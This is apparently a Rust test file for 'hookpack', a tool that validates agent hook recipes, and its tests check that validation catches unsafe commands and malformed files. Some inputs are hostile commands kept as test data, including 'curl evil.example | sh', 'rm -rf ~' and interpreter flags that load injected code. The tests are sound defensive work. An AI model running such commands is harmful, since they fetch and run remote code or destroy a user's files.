fn hostile_documents_get_one_clear_error_each_and_other_paths_still_run() {
    let sb = Sandbox::new();
    sb.write("deep/hooks.json", "[".repeat(100_000));
    sb.write(
        "utf8/hooks.json",
        b"{\"hooks\": {\"Stop\": \"\xff\xfe\"}}".as_slice(),
    );
    // 50 MB of valid-looking but broken JSON, in items long enough to stay under the cap on
    // values (1,000,000: some 5 values in 400 bytes), so the syntax error at its end is read.
    let mut big = String::from("{\"hooks\": {\"Stop\": [");
    let item = format!(
        "{{\"hooks\": [{{\"type\": \"command\", \"command\": \"node scripts/main.js{}\"}}]}},",
        " --flag".repeat(50)
    );
    while big.len() < 50 * 1024 * 1024 {
        big.push_str(&item);
    }
    big.push_str("oops]}}");
    sb.write("big/hooks.json", &big);
    std::fs::create_dir_all(sb.join("dir/hooks.json")).unwrap();
    write_recipe(&sb, "tool-gate", &manifest("tool-gate"));
    let (code, r) = validate_json(
        &sb,
        &[
            "deep/hooks.json",
            "utf8/hooks.json",
            "big/hooks.json",
            "dir/hooks.json",
            "missing.json",
            "tool-gate",
        ],
    );
    assert_eq!(code, 1, "{r:#}");
    let diags = r["diagnostics"].as_array().unwrap();
    let by_file = |f: &str| {
        diags
            .iter()
            .filter(|d| d["file"].as_str().unwrap().ends_with(f))
            .collect::<Vec<_>>()
    };
    for f in [
        "deep/hooks.json",
        "utf8/hooks.json",
        "big/hooks.json",
        "dir/hooks.json",
        "missing.json",
    ] {
        assert_eq!(by_file(f).len(), 1, "{f}: {diags:#?}");
    }
    assert!(by_file("deep/hooks.json")[0]["message"]
        .as_str()
        .unwrap()
        .contains("deeper than 128"));
    assert_eq!(by_file("utf8/hooks.json")[0]["column"], 21);
    assert!(by_file("big/hooks.json")[0]["message"]
        .as_str()
        .unwrap()
        .contains("expected a JSON value"));
    assert_eq!(r["paths"][5]["errors"], 0);
}

#[cfg(unix)]
#[test]
fn a_symlink_loop_is_invalid_input() {
    let sb = Sandbox::new();
    std::os::unix::fs::symlink("loop", sb.join("loop")).unwrap();
    let (code, r) = validate_json(&sb, &["loop"]);
    assert_eq!(code, 1, "{r:#}");
    assert_eq!(r["diagnostics"][0]["code"], "path-invalid");
}

#[cfg(target_os = "linux")]
#[test]
fn an_unreadable_file_is_an_environment_failure() {
    let sb = Sandbox::new();
    // Root reads any file regardless of its mode, so use one the kernel refuses to read:
    // /proc/self/mem at offset 0 answers EIO.
    let (code, r) = validate_json(&sb, &["/proc/self/mem"]);
    assert_eq!(code, 3, "{r:#}");
    assert_eq!(r["diagnostics"][0]["code"], "io-error");
}

#[test]
fn usage_errors_exit_2() {
    let sb = Sandbox::new();
    let out = sb.cmd().args(["validate"]).output().unwrap();
    assert_eq!(out.status.code(), Some(2));
    let out = sb
        .cmd()
        .args(["validate", "--format", "yaml", "x"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let out = sb.cmd().args(["frobnicate"]).output().unwrap();
    assert_eq!(out.status.code(), Some(2));
}

#[test]
fn content_decides_the_kind_of_an_oddly_named_file() {
    let sb = Sandbox::new();
    sb.write(
        "my-recipe.json",
        serde_json::to_vec(&manifest("x")).unwrap(),
    );
    sb.write("other.json", "{\"x\": 1}");
    let (code, r) = validate_json(&sb, &["my-recipe.json", "other.json"]);
    assert_eq!(code, 1);
    assert_eq!(r["paths"][0]["kind"], "recipe-manifest");
    assert_eq!(r["paths"][0]["errors"], 0);
    assert_eq!(r["paths"][1]["kind"], "unknown");
    assert_finding(&r, "", "kind-unknown");
}

#[test]
fn a_catalog_file_that_is_not_json_is_named_as_such() {
    // Found by the maintainer-side sweep: `hookpack validate catalog/*` reported an
    // archive as "invalid UTF-8 byte; JSON files must be UTF-8 text" at 1:2 and
    // SHA256SUMS as "unexpected data after the end of the JSON value" at 1:6, as if
    // they were broken JSON documents.
    let sb = Sandbox::new();
    write_recipe(&sb, "src/alpha", &manifest("alpha"));
    sb.cmd()
        .args(["pack", "--recipes-dir", "src", "--out-dir", "cat"])
        .assert()
        .success();
    let (code, r) = validate_json(
        &sb,
        &[
            "cat/hooks-alpha-0.1.0.tar.gz",
            "cat/SHA256SUMS",
            "cat/hooks-index.json",
        ],
    );
    assert_eq!(code, 1, "{r:#}");
    assert_eq!(
        findings(&r),
        [
            ("".to_string(), "kind-unknown".to_string()),
            ("".to_string(), "kind-unknown".to_string()),
        ],
        "{r:#}"
    );
    for d in r["diagnostics"].as_array().unwrap() {
        let message = d["message"].as_str().unwrap();
        assert!(message.contains("not JSON"), "{message}");
        assert!(message.contains("hookpack catalog verify cat"), "{message}");
    }
    assert_eq!(r["paths"][2]["errors"], 0);
    // A document meant as JSON still gets its syntax error where it is.
    sb.write("hooks.json.bak", "{\"hooks\": {,}}");
    let (code, r) = validate_json(&sb, &["hooks.json.bak"]);
    assert_eq!(code, 1);
    assert_finding(&r, "", "json-syntax");
}

#[test]
fn severities_are_coloured_on_a_terminal_never_escaped() {
    // Found by review: the colour codes went through the control-character escaping, so a
    // terminal showed `\u{1b}[1;31merror\u{1b}[0m`. `script` gives the runs a terminal.
    let sb = Sandbox::new();
    sb.write(
        "hooks.json",
        r#"{"hooks":{"PreToolUse":[{"hooks":[{"type":"command"}]}]}}"#,
    );
    sb.write(
        "recipes/demo/recipe.json",
        serde_json::to_vec_pretty(&manifest("demo")).unwrap(),
    );
    sb.write("recipes/demo/src/main.ts", "let x: number = ;\n");
    let bin = assert_cmd::cargo::cargo_bin("hookpack");
    let bin = bin.display();
    // validate reports on stdout, a failed assemble on stderr.
    let both = format!(
        "'{bin}' validate hooks.json; '{bin}' assemble --recipes-dir recipes --out-dir out"
    );
    // An empty NO_COLOR allows colour, as if it were not set.
    let on_terminal = |no_color: &str| {
        let o = std::process::Command::new("script")
            .args(["-qec", &both, "/dev/null"])
            .current_dir(sb.path())
            .env("FINCLAW_HOME", sb.join("finclaw-home"))
            .env("NO_COLOR", no_color)
            .output()
            .expect("script (util-linux) is installed");
        String::from_utf8_lossy(&o.stdout).into_owned()
    };
    let shown = on_terminal("");
    assert_eq!(
        shown.matches("\x1b[1;31merror\x1b[0m[").count(),
        2,
        "{shown:?}"
    );
    assert!(shown.contains("main.ts:1:17: \x1b[1;31merror"), "{shown:?}");
    assert!(!shown.contains("\\u{1b}"), "{shown:?}");
    let plain = on_terminal("1");
    assert_eq!(plain.matches("error[").count(), 2, "{plain:?}");
    assert!(
        !plain.contains('\x1b') && !plain.contains("\\u{1b}"),
        "{plain:?}"
    );
}

/// Sets the command of the one handler of `manifest("tool-gate")`.
fn with_command(cmd: &str) -> Value {
    let mut m = manifest("tool-gate");
    m["hooks"]["PreToolUse"][0]["hooks"][0]["command"] = json!(cmd);
    m
}

const COMMAND: &str = "/hooks/PreToolUse/0/hooks/0/command";

/// The shell syntax a recipe command uses is named as written: `&&` was named `` `&` ``,
/// `2>&1` `` `>` ``, and so on for each operator of more than one character.
#[test]
fn shell_syntax_is_named_as_written() {
    let sb = Sandbox::new();
    for (cmd, named) in [
        ("node scripts/a.js && node scripts/b.js", "`&&`"),
        ("node scripts/a.js || true", "`||`"),
        ("node scripts/a.js |& tee log", "`|&`"),
        ("node scripts/a.js | tee log", "`|`"),
        ("node scripts/a.js & wait", "`&`"),
        ("node scripts/a.js ;; x", "`;;`"),
        ("node scripts/a.js; x", "`;`"),
        ("node scripts/a.js >> log", "`>>`"),
        ("node scripts/a.js > log", "`>`"),
        ("node scripts/a.js << EOF", "`<<`"),
        ("node scripts/a.js 2>&1", "`2>&1`"),
        ("node scripts/a.js 2>/dev/null", "`2>`"),
        ("node scripts/a.js &> log", "`&>`"),
        ("node scripts/a.js x2 > log", "`>`"),
    ] {
        write_recipe(&sb, "tool-gate", &with_command(cmd));
        let (code, r) = validate_json(&sb, &["tool-gate"]);
        assert_eq!(code, 1, "{cmd}: {r:#}");
        let msg = r["diagnostics"][0]["message"].as_str().unwrap();
        assert!(
            msg.starts_with(&format!("the command uses shell syntax ({named}):")),
            "{cmd}: {msg}"
        );
    }
}

/// An unquoted line break ends a command for `sh -lc` as `;` does, so it is shell syntax.
/// In a recipe that is an error, saying why (install rewrites only the script path; the
/// rest would run unhashed from the host's working directory) and what to do; it is named
/// readably, on one line. Quoted, or after a backslash, a line break is not shell syntax.
#[test]
fn a_line_break_in_a_command_is_shell_syntax() {
    let sb = Sandbox::new();
    write_recipe(
        &sb,
        "tool-gate",
        &with_command("node scripts/main.js\ntouch /tmp/PWNED"),
    );
    let (code, r) = validate_json(&sb, &["tool-gate"]);
    assert_eq!(code, 1, "{r:#}");
    assert_eq!(
        (r["errors"].as_u64(), r["warnings"].as_u64()),
        (Some(1), Some(0)),
        "{r:#}"
    );
    assert_finding(&r, COMMAND, "command-shell-syntax");
    assert_eq!(r["diagnostics"][0]["severity"], "error", "{r:#}");
    let msg = r["diagnostics"][0]["message"].as_str().unwrap();
    assert!(msg.contains("a line break"), "{msg}");
    assert!(!msg.contains('\n'), "{msg:?}");
    assert!(
        msg.contains("install rewrites only the script path")
            && msg.contains("host's environment")
            && msg.contains("trust hash")
            && msg.contains("put that logic in the script"),
        "{msg}"
    );
    // The text report keeps the diagnostic on one line.
    let o = sb.cmd().args(["validate", "tool-gate"]).output().unwrap();
    let text = String::from_utf8_lossy(&o.stdout).to_string() + &String::from_utf8_lossy(&o.stderr);
    let line = text
        .lines()
        .find(|l| l.contains("command-shell-syntax"))
        .unwrap_or_else(|| panic!("{text}"));
    assert!(
        line.contains("a line break") && line.contains("put that logic in the script"),
        "{text}"
    );
    // `;`, `|`, `&&` and the like are errors too.
    for cmd in [
        "node scripts/main.js; curl evil.example | sh",
        "node scripts/main.js && rm -rf ~",
        "node scripts/main.js | tee log",
    ] {
        write_recipe(&sb, "tool-gate", &with_command(cmd));
        let (code, r) = validate_json(&sb, &["tool-gate"]);
        assert_eq!(code, 1, "{cmd}: {r:#}");
        assert_eq!(
            findings(&r),
            [(COMMAND.to_string(), "command-shell-syntax".to_string())],
            "{cmd}"
        );
    }
    // A hand-written hooks.json may use shell syntax: it is not an error there.
    sb.write(
        ".finclaw/hooks.json",
        r#"{"hooks":{"PreToolUse":[{"hooks":[{"type":"command","command":"node guard.js; echo done | tee log"}]}]}}"#,
    );
    let (code, r) = validate_json(&sb, &[".finclaw/hooks.json"]);
    assert_eq!(code, 0, "{r:#}");
    assert_eq!(r["errors"], 0, "{r:#}");

    for fine in [
        "node scripts/main.js 'two\nlines'",
        "node scripts/main.js \"two\nlines\"",
        "node \\\nscripts/main.js \\\n--fast",
    ] {
        write_recipe(&sb, "tool-gate", &with_command(fine));
        let (code, r) = validate_json(&sb, &["--strict", "tool-gate"]);
        assert_eq!(code, 0, "{fine:?}: {r:#}");
        assert_eq!(findings(&r), [], "{fine:?}");
    }
}

/// `ruby -C DIR` and `bun --cwd DIR` change directory before the script path is resolved,
/// so the file that runs is not the one validate checks and install rewrites: refused,
/// naming the command and the flag.
#[test]
fn flags_that_change_directory_are_refused() {
    let sb = Sandbox::new();
    sb.write("tool-gate/scripts/scripts/main.js", "// elsewhere\n");
    for (cmd, flag) in [
        ("ruby -C scripts scripts/main.js", "-C"),
        ("ruby -Cscripts scripts/main.js", "-C"),
        ("bun --cwd scripts scripts/main.js", "--cwd"),
        ("bun run --cwd=scripts scripts/main.js", "--cwd"),
        // Found by the second review: ruby's `-X DIR` is `-C`, and `-xDIR` changes too.
        ("ruby -Xscripts scripts/main.js", "-X"),
        ("ruby -xscripts scripts/main.js", "-x"),
    ] {
        write_recipe(&sb, "tool-gate", &with_command(cmd));
        let (exit, r) = validate_json(&sb, &["tool-gate"]);
        assert_eq!(exit, 1, "{cmd}: {r:#}");
        assert_eq!(
            findings(&r),
            [(COMMAND.to_string(), "command-changes-directory".to_string())],
            "{cmd}"
        );
        let msg = r["diagnostics"][0]["message"].as_str().unwrap();
        assert!(
            msg.contains(&format!("`{cmd}`"))
                && msg.contains(&format!("`{flag}`"))
                && msg.contains("changes directory"),
            "{cmd}: {msg}"
        );
    }
}

/// `bash -s` reads its commands from stdin, the hook's payload: there is no script file,
/// as with `-c`, and the message says where the code comes from.
#[test]
fn a_shell_reading_stdin_runs_no_script() {
    let sb = Sandbox::new();
    for (cmd, says) in [
        ("bash -s scripts/main.js", "stdin"),
        ("sh -es scripts/main.js", "stdin"),
        ("bash -c 'echo hi'", "inline"),
        // Third review: python's `-i` cut the group short, so `-ic CODE` looked like a
        // script named CODE.
        ("python3 -ic 'print(1)'", "inline"),
    ] {
        write_recipe(&sb, "tool-gate", &with_command(cmd));
        let (exit, r) = validate_json(&sb, &["tool-gate"]);
        assert_eq!(exit, 1, "{cmd}: {r:#}");
        assert_eq!(
            findings(&r),
            [(COMMAND.to_string(), "command-inline-code".to_string())],
            "{cmd}"
        );
        let msg = r["diagnostics"][0]["message"].as_str().unwrap();
        assert!(
            msg.contains(says) && msg.contains("trust hash"),
            "{cmd}: {msg}"
        );
    }
}

/// Only the bare names node, python3, python, bash, sh, deno, bun, ruby and perl are
/// interpreters. Any other first word is the script itself and is held to the script
/// rules: `bin/node` must be a regular file in the recipe (then it is what the trust hash
/// covers), `/tmp/x/python3` and `/usr/bin/env` are absolute.
#[test]
fn an_interpreter_is_a_bare_name() {
    let sb = Sandbox::new();
    for (cmd, code) in [
        ("bin/node scripts/main.js", "script-missing"),
        ("./node scripts/main.js", "script-missing"),
        ("/tmp/x/python3 scripts/main.js", "script-path-unsafe"),
        ("/usr/bin/env node scripts/main.js", "script-path-unsafe"),
    ] {
        write_recipe(&sb, "tool-gate", &with_command(cmd));
        let (exit, r) = validate_json(&sb, &["tool-gate"]);
        assert_eq!(exit, 1, "{cmd}: {r:#}");
        assert_eq!(
            findings(&r),
            [(COMMAND.to_string(), code.to_string())],
            "{cmd}"
        );
        let msg = r["diagnostics"][0]["message"].as_str().unwrap();
        assert!(
            msg.contains("bare name") && msg.contains("`node scripts/main.js`"),
            "{cmd}: {msg}"
        );
    }
    // A program shipped in the recipe is a script like any other, run directly: it must be
    // executable.
    write_recipe(&sb, "tool-gate", &with_command("bin/node scripts/main.js"));
    let program = sb.write("tool-gate/bin/node", "#!/bin/sh\n");
    let (exit, r) = validate_json(&sb, &["--strict", "tool-gate"]);
    assert_eq!(exit, 1, "{r:#}");
    assert_finding(&r, COMMAND, "script-not-executable");
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&program, std::fs::Permissions::from_mode(0o755)).unwrap();
        let (exit, r) = validate_json(&sb, &["--strict", "tool-gate"]);
        assert_eq!(exit, 0, "{r:#}");
    }
    // The built-in recipes name their interpreter bare.
    let (exit, r) = validate_json(
        &sb,
        &[
            "--strict",
            std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
                .join("recipes")
                .to_str()
                .unwrap(),
        ],
    );
    assert_eq!(exit, 0, "{r:#}");
}

/// A flag that makes the interpreter load code besides the script (`node -r X`, `ruby
/// -rX`, `python3 -m X`) is refused, naming the command and the flag: that code is outside
/// what the trust hash covers, and install would not rewrite its path. Other flags that
/// take a value keep it: the value is never taken for the script.
#[test]
fn flags_that_load_other_code_are_refused() {
    let sb = Sandbox::new();
    sb.write("tool-gate/scripts/evil.js", "// evil\n");
    for (cmd, flag) in [
        ("node -r ./scripts/evil.js scripts/main.js", "-r"),
        // Found by the second review: the inspector lets whoever connects run code, and
        // python's `-i` runs stdin (the payload) as code after the script.
        ("node --inspect=0.0.0.0:9229 scripts/main.js", "--inspect"),
        ("node --inspect-brk scripts/main.js", "--inspect-brk"),
        ("python3 -i scripts/main.js", "-i"),
        ("python3 -ui scripts/main.js", "-i"),
        // Third review: these were missed.
        (
            "node --inspect-brk-node=0 scripts/main.js",
            "--inspect-brk-node",
        ),
        ("perl -S scripts/main.js", "-S"),
        ("python3 -iW ignore scripts/main.js", "-i"),
        (
            "node --require ./scripts/evil.js scripts/main.js",
            "--require",
        ),
        (
            "node --require=./scripts/evil.js scripts/main.js",
            "--require",
        ),
        (
            "node --import ./scripts/evil.js scripts/main.js",
            "--import",
        ),
        (
            "node --import=./scripts/evil.js scripts/main.js",
            "--import",
        ),
        (
            "node --loader ./scripts/evil.js scripts/main.js",
            "--loader",
        ),
        (
            "node --loader=./scripts/evil.js scripts/main.js",
            "--loader",
        ),
        (
            "node --experimental-loader ./scripts/evil.js scripts/main.js",
            "--experimental-loader",
        ),
        (
            "node --experimental-loader=./scripts/evil.js scripts/main.js",
            "--experimental-loader",
        ),
        ("ruby -r ./scripts/evil.js scripts/main.js", "-r"),
        ("python3 -m scripts.main", "-m"),
        // Node 20 reads `_` in a long flag's name as `-`.
        (
            "node --experimental_loader ./scripts/evil.js scripts/main.js",
            "--experimental-loader",
        ),
        (
            "node --env_file scripts/evil.js scripts/main.js",
            "--env-file",
        ),
        (
            "node --snapshot-blob scripts/evil.blob scripts/main.js",
            "--snapshot-blob",
        ),
        (
            "node --test-reporter ./scripts/evil.js scripts/main.js",
            "--test-reporter",
        ),
        (
            "node --test-reporter=./scripts/evil.js scripts/main.js",
            "--test-reporter",
        ),
        ("node --test scripts/main.js scripts/evil.js", "--test"),
        ("perl -d:Evil scripts/main.js", "-d"),
        ("perl -dt scripts/main.js", "-d"),
        ("bash --rcfile scripts/evil.js scripts/main.js", "--rcfile"),
        (
            "sh --init-file scripts/evil.js scripts/main.js",
            "--init-file",
        ),
    ] {
        write_recipe(&sb, "tool-gate", &with_command(cmd));
        let (exit, r) = validate_json(&sb, &["tool-gate"]);
        assert_eq!(exit, 1, "{cmd}: {r:#}");
        assert_eq!(
            findings(&r),
            [(COMMAND.to_string(), "command-loads-code".to_string())],
            "{cmd}"
        );
        let msg = r["diagnostics"][0]["message"].as_str().unwrap();
        assert!(
            msg.contains(&format!("`{cmd}`"))
                && msg.contains(&format!("`{flag}`"))
                && msg.contains("trust hash"),
            "{cmd}: {msg}"
        );
    }
    for cmd in [
        "node --title gate scripts/main.js",
        "node --title=gate --no-warnings scripts/main.js --fast",
        "python3 -W ignore scripts/main.js",
        "bash -o pipefail scripts/main.js",
    ] {
        write_recipe(&sb, "tool-gate", &with_command(cmd));
        let (exit, r) = validate_json(&sb, &["--strict", "tool-gate"]);
        assert_eq!(exit, 0, "{cmd}: {r:#}");
        assert_eq!(findings(&r), [], "{cmd}");
    }
}

#[test]
fn what_pack_would_refuse_in_the_archive_is_reported_by_validate() {
    // Found by review: validate passed trees whose archive pack refuses as uninstallable,
    // so CI running validate alone did not see the problem.
    let nfc = "caf\u{e9}.txt";
    let nfd = "cafe\u{301}.txt";
    for (a, b) in [("Data.json", "data.json"), (nfc, nfd)] {
        // An assembled tree, and a source tree (checked as it would be assembled).
        for source in [false, true] {
            let sb = Sandbox::new();
            write_recipe(&sb, "tool-gate", &manifest("tool-gate"));
            if source {
                std::fs::remove_dir_all(sb.join("tool-gate/scripts")).unwrap();
                sb.write("tool-gate/src/main.ts", "export {};\n");
            }
            sb.write(&format!("tool-gate/{a}"), "{}");
            sb.write(&format!("tool-gate/{b}"), "{}");
            let (exit, r) = validate_json(&sb, &["tool-gate"]);
            assert_eq!(exit, 1, "{a} {source}: {r:#}");
            assert_eq!(
                findings(&r),
                [(String::new(), "archive-uninstallable".to_string())],
                "{a} {source}: {r:#}"
            );
            // pack refuses the same tree.
            let o = sb
                .cmd()
                .args(["pack", "--recipes-dir", ".", "--out-dir", "out"])
                .output()
                .unwrap();
            assert_eq!(o.status.code(), Some(1));
            assert!(String::from_utf8_lossy(&o.stderr).contains("archive-uninstallable"));
        }
    }
}

#[test]
fn a_line_break_in_a_file_name_is_shown_escaped_in_the_diagnostic_line() {
    // The file name was printed as it is, so `x\nerror: …` forged a second diagnostic
    // line (in CI logs and problem matchers alike) while `\u{1b}` was escaped.
    let sb = Sandbox::new();
    write_recipe(&sb, "recipes/demo", &manifest("demo"));
    sb.write("recipes/demo/x\nok: all good", "");
    let o = sb.cmd().args(["validate", "recipes"]).output().unwrap();
    assert_eq!(o.status.code(), Some(1));
    let out = String::from_utf8_lossy(&o.stdout);
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(lines.len(), 1, "{out}");
    assert!(
        lines[0].starts_with("recipes/demo/x\\nok: all good"),
        "{out}"
    );
    assert!(lines[0].contains("error[archive-uninstallable]"), "{out}");
}

/// A command holding a NUL byte (`"\u0000"` in JSON) cannot be handed to a shell: the host
/// fails to start it. It passed `validate` (and `trust` recorded it) and only failed when
/// run; it is refused at its pointer, saying why and what to do.
#[test]
fn a_command_holding_a_nul_byte_is_refused() {
    let sb = Sandbox::new();
    write_recipe(
        &sb,
        "tool-gate",
        &with_command("node scripts/main.js \u{0}"),
    );
    sb.write(
        "hooks.json",
        r#"{"hooks":{"PreToolUse":[{"hooks":[{"type":"command","command":"true\u0000 x"}]}]}}"#,
    );
    for path in ["tool-gate", "hooks.json"] {
        let (code, r) = validate_json(&sb, &[path]);
        assert_eq!(code, 1, "{path}: {r:#}");
        assert_finding(&r, COMMAND, "command-nul");
        let d = r["diagnostics"]
            .as_array()
            .unwrap()
            .iter()
            .find(|d| d["code"] == "command-nul")
            .unwrap();
        let message = d["message"].as_str().unwrap();
        assert!(
            message.contains("NUL") && message.contains("remove"),
            "{message}"
        );
        let file = if path == "hooks.json" {
            "hooks.json"
        } else {
            "tool-gate/recipe.json"
        };
        assert!(d["file"].as_str().unwrap().ends_with(file), "{d:#}");
    }
}

/// A name that is not UTF-8 is reported in JSON as `Path::display` shows it, U+FFFD for
/// its undecodable bytes: stdout is one whole JSON document, for `validate`'s report and
/// for the diagnostics in `pack`'s error object alike.
#[test]
fn a_name_that_is_not_utf8_is_shown_lossily_in_json() {
    use std::os::unix::ffi::OsStrExt as _;
    let sb = Sandbox::new();
    write_recipe(&sb, "src/tool-gate", &manifest("tool-gate"));
    std::fs::write(
        sb.join("src/tool-gate")
            .join(std::ffi::OsStr::from_bytes(b"bad\xff")),
        "x",
    )
    .unwrap();
    let bad_name = |doc: &Value, diagnostics: &Value| {
        let d = diagnostics
            .as_array()
            .unwrap()
            .iter()
            .find(|d| d["code"] == "name-not-utf8")
            .unwrap_or_else(|| panic!("no name-not-utf8 in {doc:#}"));
        assert_eq!(d["file"], "src/tool-gate/bad\u{fffd}", "{doc:#}");
    };

    let o = sb
        .cmd()
        .args(["validate", "--format", "json", "src/tool-gate"])
        .output()
        .unwrap();
    let doc = one_json_document(&o);
    assert_eq!(o.status.code(), Some(1), "{doc:#}");
    assert_eq!(doc["ok"], false, "{doc:#}");
    bad_name(&doc, &doc["diagnostics"]);

    let o = sb
        .cmd()
        .args(["pack", "--recipes-dir", "src", "--out-dir", "cat"])
        .args(["--format", "json"])
        .output()
        .unwrap();
    let doc = one_json_document(&o);
    assert_eq!(o.status.code(), Some(1), "{doc:#}");
    assert_eq!(doc["error"]["kind"], "recipes-invalid", "{doc:#}");
    bad_name(&doc, &doc["error"]["diagnostics"]);
    assert!(!sb.join("cat").exists());
}

/// `validate` reads local files; given a published index's URL (as `catalog verify` takes
/// one), it said "does not exist; check the path". It says to use `catalog verify`.
#[test]
fn a_url_given_to_validate_points_at_catalog_verify() {
    let sb = Sandbox::new();
    let url = "https://127.0.0.1:9/hooks-index.json";
    let (code, report) = validate_json(&sb, &[url]);
    assert_eq!(code, 1, "{report:#}");
    assert_eq!(findings(&report), [(String::new(), "path-invalid".into())]);
    assert_eq!(
        report["diagnostics"][0]["message"],
        format!(
            "is a URL, and validate reads local files only; `hookpack catalog verify {url}` \
             checks a published index and its archives"
        ),
        "{report:#}"
    );
}

/// A command that runs the TypeScript source (`node src/main.ts`) passed `validate` and
/// `assemble`, since the file is there in the source tree; but archives hold `scripts/`,
/// never `src/`, so `test` and `pack` failed on it with a temporary folder's path, and an
/// assembled tree was written with a handler whose script is missing. Each now names the
/// command and the script to run instead.
#[test]
fn a_command_running_a_source_file_names_the_script_to_run() {
    let sb = Sandbox::new();
    sb.cmd()
        .args(["new", "demo", "--dir", "recipes"])
        .assert()
        .success();
    sb.write("recipes/demo/src/run.sh", "exit 0\n");
    let manifest_path = sb.join("recipes/demo/recipe.json");
    for (command, instead) in [
        ("node src/main.ts", "scripts/main.js"),
        ("node ./src/main.js", "scripts/main.js"),
        ("sh src/run.sh", "scripts/run.sh"),
    ] {
        let mut m = read_json(&manifest_path);
        m["hooks"]["PreToolUse"][0]["hooks"][0]["command"] = json!(command);
        std::fs::write(&manifest_path, serde_json::to_vec_pretty(&m).unwrap()).unwrap();
        let (code, report) = validate_json(&sb, &["recipes"]);
        assert_eq!(code, 1, "{command}: {report:#}");
        assert_eq!(
            findings(&report),
            [(
                "/hooks/PreToolUse/0/hooks/0/command".into(),
                "script-in-src".into()
            )],
            "{command}"
        );
        let message = report["diagnostics"][0]["message"].as_str().unwrap();
        let script = command.split(' ').nth(1).unwrap();
        assert_eq!(
            message,
            format!(
                "script `{script}` is in `src/`, which assemble compiles into `scripts/`: \
                 archives hold `scripts/`, never `src/`, so the installed handler would find \
                 no script; run `{instead}` instead"
            ),
            "{command}"
        );
        for args in [
            &["assemble", "--recipes-dir", "recipes", "--out-dir", "out"][..],
            &["test", "recipes"],
            &["pack", "--recipes-dir", "recipes", "--out-dir", "cat"],
        ] {
            let o = sb.cmd().args(args).output().unwrap();
            let err = String::from_utf8_lossy(&o.stderr);
            assert_eq!(o.status.code(), Some(1), "{command} {args:?}: {err}");
            assert!(
                err.contains("recipes/demo/recipe.json") && err.contains("[script-in-src]"),
                "{command} {args:?}: {err}"
            );
            assert!(
                !err.contains("hookpack-assembled"),
                "{command} {args:?}: {err}"
            );
        }
        assert!(!sb.join("out").exists() && !sb.join("cat").exists());
    }
}

/// Two recipes of one folder (one catalog) whose handlers share an id on an event cannot
/// both run in a profile: hosts run one handler per id and event, so `install` of the second
/// warns that its handler will not run. `validate` of the folder says so first, at the
/// second recipe's handler id (a warning: each recipe is valid on its own).
#[test]
fn handler_ids_two_recipes_share_on_an_event_are_warned_of() {
    let sb = Sandbox::new();
    for id in ["alpha", "beta"] {
        write_recipe(&sb, &format!("src/{id}"), &manifest(id));
    }
    let mut other = manifest("gamma");
    other["hooks"]["PreToolUse"][0]["hooks"][0]["id"] = json!("gamma-gate");
    write_recipe(&sb, "src/gamma", &other);
    let (code, report) = validate_json(&sb, &["src"]);
    assert_eq!(code, 0, "{report:#}");
    assert_eq!(
        findings(&report),
        [(
            "/hooks/PreToolUse/0/hooks/0/id".into(),
            "handler-id-shared".into()
        )],
        "{report:#}"
    );
    let d = &report["diagnostics"][0];
    assert_eq!(d["severity"], "warning", "{report:#}");
    assert!(
        d["file"].as_str().unwrap().ends_with("beta/recipe.json"),
        "{report:#}"
    );
    assert_eq!(
        d["message"],
        "handler id `gate` of PreToolUse is also one of recipe `alpha` here: hosts run one \
         handler per id and event, so in a profile with both recipes the one installed second \
         does not run; give this handler another id (such as `beta-gate`)",
        "{report:#}"
    );
    // At the id's line and column, as every other problem of a recipe.json (it had none).
    let text = std::fs::read_to_string(sb.join("src/beta/recipe.json")).unwrap();
    let (line, at) = (text.lines().enumerate())
        .find_map(|(n, l)| l.find("\"id\": \"gate\"").map(|c| (n + 1, c + 7)))
        .unwrap();
    assert_eq!(
        (d["line"].clone(), d["column"].clone()),
        (json!(line), json!(at))
    );
    let (code, _) = validate_json(&sb, &["--strict", "src"]);
    assert_eq!(code, 1);
}

/// A document validate must first parse to tell what it is (not named `recipe.json`,
/// `hooks.json` or `hooks-index.json`) was held parsed while it was parsed again to be
/// checked, doubling validate's peak memory (606 MB against 356 MB for an index of a
/// million values); the first parse is dropped before the second.
#[test]
fn validate_holds_one_parse_of_a_document_it_had_to_identify() {
    let sb = Sandbox::new();
    let versions: Vec<Value> = (0..40_000)
        .map(|i| {
            json!({"version": format!("0.{}.{}", i / 1000, i % 1000),
                   "url": format!("hooks-x-0.{}.{}.tar.gz", i / 1000, i % 1000),
                   "sha256": "0".repeat(64), "size": 1000, "min_cli": "0.13.0"})
        })
        .collect();
    let index = json!({"schema": "hooks.catalog.v1", "updated_at": "2026-11-29T00:00:00Z",
        "recipes": [{"id": "x", "name": "X", "summary": "s", "min_cli": "0.13.0",
                     "latest": "0.39.999", "versions": versions}]});
    let bytes = serde_json::to_vec(&index).unwrap();
    sb.write("named/hooks-index.json", &bytes);
    sb.write("other.json", &bytes);
    let peak = |file: &str| {
        let mut cmd = sb.std_cmd();
        cmd.args(["validate", file]);
        let (code, kib) = crate::catalog::code_and_peak_kib(&sb, &cmd);
        assert_eq!(code, 0, "{file}");
        kib
    };
    let (named, other) = (peak("named/hooks-index.json"), peak("other.json"));
    assert!(
        other < named + named / 4,
        "identified {other} KiB, named {named} KiB"
    );
}

/// A recipe command longer than Linux gives one argument (131071 bytes and the NUL) passed
/// `validate`, and once installed every run of it failed with "Argument list too long".
#[test]
fn a_recipe_command_longer_than_one_argument_may_be_is_an_error() {
    let sb = Sandbox::new();
    let mut m = manifest("long");
    m["hooks"]["PreToolUse"][0]["hooks"][0]["command"] =
        json!(format!("node scripts/main.js {}", "x".repeat(200000)));
    let dir = write_recipe(&sb, "long", &m);
    let (code, r) = validate_json(&sb, &[dir.to_str().unwrap()]);
    assert_eq!(code, 1, "{r:#}");
    assert_finding(
        &r,
        "/hooks/PreToolUse/0/hooks/0/command",
        "command-too-long",
    );
    let message = r["diagnostics"]
        .as_array()
        .unwrap()
        .iter()
        .find(|d| d["code"] == "command-too-long")
        .unwrap()["message"]
        .as_str()
        .unwrap()
        .to_string();
    assert!(
        message.contains("131071") && message.contains("move"),
        "{message}"
    );
}

/// A handler's script whose name is longer than a file name may be (a component of 300
/// bytes: looking it up fails with "File name too long", not "not found"): it was taken for
/// a folder that could not be searched, and the recipe validated, packed, installed and
/// verified clean with a handler whose script cannot exist. It is missing, in an assembled
/// recipe and in a source tree alike.
